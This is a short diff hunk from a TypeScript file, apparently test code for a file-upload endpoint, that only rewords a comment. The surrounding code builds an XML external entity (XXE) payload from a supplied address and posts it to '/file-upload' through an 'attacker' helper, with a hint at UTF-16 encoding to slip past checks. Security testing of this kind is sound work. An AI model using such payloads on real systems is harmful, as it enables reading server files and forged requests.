@@ -9,7 +9,7 @@ function send(attacker: Attacker, document: string | Uint8Array<ArrayBuffer>, na
   return attacker.post('/file-upload', form, { headers: { accept: 'application/json' } })
 }
 
-/** An order that holds what stands at an address. */
+/** An order with an external entity from a URL. */
 const orderWith = (address: string) => `<!DOCTYPE order [<!ENTITY xxe SYSTEM "${address}">]><order>&xxe;</order>`
 
 /** In UTF-16 with its byte order mark. */
